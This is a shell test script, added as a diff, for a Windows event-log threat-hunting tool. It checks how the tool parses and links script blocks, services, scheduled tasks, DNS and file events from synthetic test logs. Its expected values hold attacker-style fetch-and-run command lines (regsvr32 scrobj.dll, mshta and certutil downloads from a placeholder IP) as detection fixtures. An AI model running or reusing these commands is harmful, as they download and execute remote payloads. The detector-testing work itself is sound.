@@ -1,0 +1,144 @@
+#!/bin/sh
+# cmd-sources.sh -- the execution sources end to end over testdata/wks03
+# (testdata/make-wks03.py): script blocks joined from parts logged out of
+# order and with a part lost, services (4697, 7045), a task's XML action,
+# DNS queries and a file drop; their --db columns and process links; the
+# report's context (started by, script, activity) and coverage; a host
+# with only script blocks or services is examinable (not exit 3).
+set -u
+. "$top_srcdir/tests/testlib.sh"
+RULES=$top_srcdir/rules
+W=$TD/wks03
+
+# -- dump: kinds and normalised columns
+expect 0 "dump wks03" "$EVTXHUNT" dump -q --db "$T/d.db" "$W"
+"$PY" - "$T/d.db" <<'PYEOF' && ok "event models in --db" || fail "event models in --db"
+import sqlite3, sys
+db = sqlite3.connect(sys.argv[1])
+kinds = dict(db.execute("SELECT kind, count(*) FROM events GROUP BY kind"))
+assert kinds == {"process": 8, "dns_query": 2, "file_create": 1,
+                 "script_block": 5, "service": 2, "task": 1}, kinds
+q = lambda sql: db.execute(sql).fetchall()
+# the block of three parts logged 1, 3, 2: joined on part 1, in order
+rows = q("SELECT record_id, script_part, script_text, script_note FROM events"
+         " WHERE script_block_id LIKE '%0002}' ORDER BY record_id")
+assert [r[1] for r in rows] == ["1/3", "3/3", "2/3"], rows
+assert rows[0][2] == ("function Invoke-Stage {\r\n  $u = 'http://203.0.113.9"
+    "/p.sct'\r\n  Start-Process regsvr32.exe -ArgumentList \"/s /n /u /i:$u"
+    " scrobj.dll\"\r\n}\r\nInvoke-Stage\r\n"), rows[0][2]
+assert rows[0][3] is None and rows[1][2] is None and rows[2][2] is None
+# a block whose second part was lost
+(note,) = q("SELECT script_note FROM events WHERE script_block_id LIKE"
+            " '%0003}'")[0]
+assert note == "partial: 1 of 2 parts (missing 2)", note
+svc = q("SELECT event_id, service_name, image, command_line, start_type, user"
+        " FROM events WHERE kind = 'service' ORDER BY event_id")
+assert svc == [
+    (4697, "WinUpdSvc", "C:\\Windows\\System32\\rundll32.exe",
+     "C:\\Windows\\System32\\rundll32.exe C:\\Users\\Public\\u.dll,Start",
+     "auto start", "LocalSystem"),
+    (7045, "PrintHelper", "%COMSPEC%",
+     "%COMSPEC% /c C:\\Windows\\System32\\mshta.exe http://203.0.113.9/s.hta",
+     "demand start", "LocalSystem")], svc
+task = q("SELECT task_name, image, command_line, user, pid FROM events"
+         " WHERE kind = 'task'")
+assert task == [("\\Updater", "C:\\Windows\\System32\\regsvr32.exe",
+    "C:\\Windows\\System32\\regsvr32.exe /s /u /i:http://203.0.113.9/t.sct"
+    " scrobj.dll", "CORP\\bob", 5120)], task
+dns = q("SELECT query_name, query_results, image FROM events"
+        " WHERE kind = 'dns_query' ORDER BY time")
+assert dns[1] == ("dl.example.test", "::ffff:203.0.113.10;",
+                  "C:\\Windows\\System32\\certutil.exe"), dns
+assert q("SELECT target_filename FROM events WHERE kind = 'file_create'") == \
+    [("C:\\Users\\Public\\p.exe",)]
+PYEOF
+
+# -- scan: findings with their context
+expect 1 "scan wks03" "$EVTXHUNT" scan -r "$RULES" --db "$T/s.db" "$W"
+cp "$T/out" "$T/report.txt"
+has() {
+	grep -F -q -- "$2" "$T/report.txt" && ok "$1" ||
+	    { fail "$1: no '$2'"; }
+}
+# (lines wrap at 100 columns: fragments of one line each)
+has "regsvr32 shows the script block that ran it" \
+    "script    2024-03-07T09:01:02.1000000Z script block {7A1C0D2E-0307-4C55-9D1A-000000000002} 1/3:"
+has "the joined block, in order" \
+    "regsvr32.exe -ArgumentList \"/s /n /u /i:\$u scrobj.dll\" } Invoke-Stage"
+has "certutil shows its partial script block" \
+    "[partial: 1 of 2 parts (missing 2)]: & certutil.exe -urlcache -split -f"
+has "certutil's DNS query" \
+    "activity  2024-03-07T09:05:00.6000000Z dns dl.example.test -> ::ffff:203.0.113.10;"
+has "certutil's file drop" \
+    "          2024-03-07T09:05:01.7000000Z file C:\\Users\\Public\\p.exe"
+has "rundll32 started by its service (4697)" \
+    "started   2024-03-07T09:10:01.0000000Z service WinUpdSvc (auto start, LocalSystem):"
+has "regsvr32 started by the task" \
+    "started   2024-03-07T09:15:00.6000000Z task \\Updater created by CORP\\bob:"
+has "coverage counts the sources" \
+    "execution script blocks: 5, services: 2, tasks: 1, dns (22): 2, files (11): 1"
+"$PY" - "$T/s.db" <<'PYEOF' && ok "process links in --db" || fail "process links in --db"
+import sqlite3, sys
+db = sqlite3.connect(sys.argv[1])
+rows = db.execute("""SELECT e.image, o.kind, s.script_block_id
+    FROM processes p JOIN events e ON e.id = p.event
+    LEFT JOIN events o ON o.id = p.origin
+    LEFT JOIN events s ON s.id = p.script
+    WHERE p.origin IS NOT NULL OR p.script IS NOT NULL
+    ORDER BY e.time""").fetchall()
+b = "{7A1C0D2E-0307-4C55-9D1A-00000000000%d}"
+assert rows == [("C:\\Windows\\System32\\regsvr32.exe", None, b % 2),
+    ("C:\\Windows\\System32\\certutil.exe", None, b % 3),
+    ("C:\\Windows\\System32\\rundll32.exe", "service", None),
+    ("C:\\Windows\\System32\\cmd.exe", "service", None),
+    ("C:\\Windows\\System32\\regsvr32.exe", "task", None)], rows
+acts = db.execute("""SELECT e.image, pe.kind FROM process_events pe
+    JOIN events e ON e.id = pe.process WHERE pe.kind IN
+    ('dns_query', 'file_create', 'task') ORDER BY pe.event""").fetchall()
+assert acts == [("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+    "dns_query"), ("C:\\Windows\\System32\\certutil.exe", "dns_query"),
+    ("C:\\Windows\\System32\\certutil.exe", "file_create"),
+    ("C:\\Windows\\System32\\schtasks.exe", "task")], acts
+PYEOF
+expect 1 "scan wks03 -f jsonl" "$EVTXHUNT" scan -q -f jsonl -r "$RULES" "$W"
+"$PY" - "$T/out" <<'PYEOF' && ok "jsonl context" || fail "jsonl context"
+import json, sys
+rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
+cov = [h for r in rows if r.get("type") == "header" for h in r["coverage"]]
+assert cov[0]["powershell_4104"] == 5 and cov[0]["tasks"] == 1, cov
+fs = [r for r in rows if r.get("type") == "finding"]
+started = [f["context"]["started_by"]["kind"] for f in fs
+           if f["context"]["started_by"]]
+assert sorted(started) == ["service", "task"], started
+cu = [f for f in fs if "certutil" in (f["command_line"] or "")][0]
+assert [a["kind"] for a in cu["context"]["activity"]] == \
+    ["dns_query", "file_create"], cu["context"]
+assert cu["context"]["script"]["summary"].startswith("script block"), cu
+PYEOF
+
+# -- coverage and exit 3: script blocks or services alone are examinable
+expect 0 "only script blocks: examined, nothing found" \
+    "$EVTXHUNT" scan -r "$RULES" "$W/wks03-powershell.evtx"
+grep -q "\[partial\]" "$T/out" && ok "script-block host is partial" ||
+    fail "script-block host not partial"
+grep -q "only script blocks, services and" "$T/out" &&
+    ok "coverage says what was examined" || fail "coverage sentence"
+expect 0 "only services: examined" "$EVTXHUNT" scan -r "$RULES" \
+    "$W/wks03-system.evtx"
+expect 3 "DNS and file events alone are not examinable" "$EVTXHUNT" scan \
+    -r "$RULES" "$TD/ignored-events.evtx"
+
+# -- -a: every event of the sources on the timeline, in one line each
+expect 1 "scan -a" "$EVTXHUNT" scan -a -r "$RULES" "$W"
+grep -q "task \\\\Updater created by CORP\\\\bob" "$T/out" &&
+    ok "task on the timeline" || fail "no task line on the timeline"
+expect 1 "scan -a -f jsonl" "$EVTXHUNT" scan -q -a -f jsonl -r "$RULES" "$W"
+"$PY" - "$T/out" <<'PYEOF' && ok "later parts point at the first" || fail "later part line"
+import json, sys
+rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
+ev = {r["record_id"]: r for r in rows if r.get("kind") == "script_block"}
+assert ev[203]["event"]["summary"].endswith(
+    " 3/3: (text in the block's first part)"), ev[203]
+assert ev[202]["event"]["summary"].endswith("} Invoke-Stage "), ev[202]
+PYEOF
+finish
